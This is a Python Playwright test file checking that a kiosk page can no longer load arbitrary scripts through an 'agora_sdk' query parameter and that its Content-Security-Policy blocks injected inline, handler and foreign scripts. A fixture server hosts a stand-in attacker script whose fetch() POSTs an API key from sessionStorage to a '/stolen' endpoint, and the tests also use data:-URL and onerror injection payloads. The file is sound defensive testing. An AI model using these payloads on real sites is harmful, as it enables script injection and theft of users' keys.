"""Script injection on the kiosk page, attacked in a real headless Chromium.

``/?agora_sdk=<url>`` used to load any script into the bridge's origin (where the page keeps the client
key). The page now only loads the SDK the bridge is configured with, and the Content-Security-Policy
refuses everything else even if a script tag did get in.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from bridge.serving import EmbeddedServer
from bridge.settings import DEFAULT_AGORA_SDK_URL

playwright_api = pytest.importorskip("playwright.async_api", reason="Python Playwright is not installed")
expect = playwright_api.expect
expect.set_options(timeout=15_000)

SDK = "https://sdk.agora.test/sdk/release/AgoraRTC_N-4.22.2.js"
# A stand-in for the Agora Web SDK: counts its runs and records the join the page makes.
FAKE_SDK = b"""window.__sdkRuns = (window.__sdkRuns || 0) + 1;
window.AgoraRTC = { createClient() { return {
  remoteUsers: [], on() {}, async join(...args) { window.__joined = args; return 1; }, async leave() {} }; } };
"""
# Collects CSP violations from the first moment of the page (Playwright's init scripts are not
# subject to the page's policy).
WATCH_VIOLATIONS = """window.__violations = [];
document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(
  { directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample }));"""


def sri(body: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(body).digest()).decode()


@dataclass
class Evil:
    """A second server on loopback: hosts the attacker's script and records every request it gets."""

    url: str
    hits: list[str] = field(default_factory=list)

    def script(self) -> str:
        return (f"window.__pwned = 1; fetch('{self.url}/stolen', {{method: 'POST', mode: 'no-cors', "
                f"body: sessionStorage.getItem('a2e-bridge.apiKey') || 'no key'}});")


@pytest.fixture
async def evil() -> AsyncIterator[Evil]:
    server: EmbeddedServer | None = None
    record: Evil | None = None

    async def anything(request: Request) -> Response:
        assert record is not None
        record.hits.append(f"{request.method} {request.url.path}")
        return Response(record.script(), media_type="text/javascript", headers={"Access-Control-Allow-Origin": "*"})

    server = EmbeddedServer.for_app(Starlette(routes=[Route("/{path:path}", anything, methods=["GET", "POST"])]))
    record = Evil(await server.start())
    yield record
    await server.stop()


async def watched(page: Any) -> None:
    await page.add_init_script(WATCH_VIOLATIONS)


async def open_room_and_speak(page: Any) -> None:
    """What an honest user does: pick an avatar, open a room, say something, see the ack."""
    await expect(page.get_by_test_id("avatar-select")).to_be_enabled()
    await page.get_by_test_id("open-room").click()
    await expect(page.get_by_test_id("room-state")).to_have_text("open")
    await expect(page.get_by_test_id("conn-status")).to_have_text("connected")
    await page.get_by_test_id("command-text").fill("Welcome.")
    await page.get_by_test_id("speak").click()
    await expect(page.get_by_test_id("ack").filter(has_text="speak")).to_contain_text("accepted at queue position 1")


@pytest.mark.parametrize("attack", ["data", "evil_server"])
async def test_agora_sdk_query_cannot_load_a_script(
        attack: str, bridge: Any, evil: Evil, open_page: Callable[..., Any]) -> None:
    target = "data:text/javascript,window.__pwned=1" if attack == "data" else f"{evil.url}/evil.js"
    requested: list[str] = []

    async def setup(page: Any) -> None:
        await watched(page)
        page.on("request", lambda request: requested.append(request.url))

    page = await open_page(bridge, f"/?agora_sdk={target}", setup=setup)
    # kiosk.agora settles once the page's one SDK load is over (the CDN is blocked: null); a script
    # from the query would have run before it settled.
    assert await page.evaluate("kiosk.agora") is None
    await open_room_and_speak(page)
    await expect(page.get_by_test_id("video-note")).to_contain_text("Video unavailable (Agora Web SDK not reachable)")

    assert await page.evaluate("window.__pwned") is None
    assert evil.hits == []
    assert not [url for url in requested if url.startswith(("data:", evil.url))]
    # beyond the bridge, the page fetched the configured SDK and nothing else
    assert [url for url in requested if not url.startswith(bridge.url)] == [DEFAULT_AGORA_SDK_URL]
    assert await page.evaluate("window.__violations") == []  # nothing was even tried
    assert page.errors == []


async def test_the_policy_stops_injected_scripts(bridge: Any, evil: Evil, open_page: Callable[..., Any]) -> None:
    """Should a script tag or an inline handler get into the DOM anyway, the CSP refuses to run it."""
    page = await open_page(bridge, "/", setup=watched)
    await expect(page.get_by_test_id("avatar-select")).to_be_enabled()
    attempts = await page.evaluate("""(evilUrl) => {
      const inline = document.createElement("script");
      inline.textContent = "window.__inline = 1";
      document.body.append(inline);  // an allowed inline script would have run right here
      const box = document.createElement("div");
      box.innerHTML = '<img src="/no-such-image.png" onerror="window.__handler = 1">';
      document.body.append(box);
      const foreign = document.createElement("script");
      foreign.src = evilUrl + "/injected.js";
      document.head.append(foreign);
      return window.__inline ?? null;
    }""", evil.url)
    assert attempts is None
    await page.wait_for_function("window.__violations.length >= 3")
    violations = await page.evaluate("window.__violations")
    directives = sorted(v["directive"] for v in violations)
    assert directives == ["script-src-attr", "script-src-elem", "script-src-elem"], violations
    assert f"{evil.url}/injected.js" in [v["blocked"] for v in violations]
    assert await page.evaluate("[window.__inline, window.__handler, window.__pwned]") == [None] * 3
    assert evil.hits == []
    await open_room_and_speak(page)  # the page itself is unharmed


@pytest.mark.parametrize("integrity", ["none", "matching", "wrong"])
async def test_the_configured_sdk_is_what_the_page_loads(
        integrity: str, bridge_factory: Callable[..., Any], evil: Evil, open_page: Callable[..., Any]) -> None:
    hash_ = {"none": None, "matching": sri(FAKE_SDK), "wrong": sri(b"something else")}[integrity]
    bridge = await bridge_factory(agora_sdk_url=SDK, agora_sdk_integrity=hash_)
    requests: list[dict[str, Any]] = []

    async def serve_sdk(route: Any) -> None:
        request = route.request
        requests.append({"url": request.url, "headers": await request.all_headers()})
        await route.fulfill(status=200, content_type="text/javascript", body=FAKE_SDK,
                            headers={"Access-Control-Allow-Origin": "*"})

    async def setup(page: Any) -> None:
        await watched(page)
        await page.route("https://sdk.agora.test/**", serve_sdk)

    page = await open_page(bridge, f"/?agora_sdk={evil.url}/evil.js", setup=setup)
    loaded = await page.evaluate("kiosk.agora.then((sdk) => Boolean(sdk))")
    assert [r["url"] for r in requests] == [SDK]
    assert evil.hits == []
    if hash_:  # SRI on a cross-origin file: a CORS request, and the browser checks the hash
        assert requests[0]["headers"].get("origin") == bridge.url
    else:
        assert "origin" not in requests[0]["headers"]
    await open_room_and_speak(page)
    if integrity == "wrong":
        assert not loaded and await page.evaluate("window.__sdkRuns") is None
        await expect(page.get_by_test_id("video-note")).to_contain_text("Video unavailable")
        return
    assert loaded and await page.evaluate("window.__sdkRuns") == 1
    script = await page.evaluate(f"""(() => {{
      const s = document.querySelector('script[src="{SDK}"]');
      return s && {{ integrity: s.integrity, crossOrigin: s.crossOrigin }};
    }})()""")
    assert script == {"integrity": hash_ or "", "crossOrigin": "anonymous" if hash_ else None}
    # the page used the SDK: it joined the room's Agora channel
    await expect(page.get_by_test_id("video-note")).to_have_text("Waiting for the avatar's video…")
    room_id = (await page.get_by_test_id("room-id").text_content()).strip()
    room = (await bridge.http.get(f"/v1/rooms/{room_id}")).json()
    joined = await page.evaluate("window.__joined")
    assert joined[:2] == [room["app_id"], room["channel"]]
    assert await page.evaluate("window.__violations") == []
    assert page.errors == []
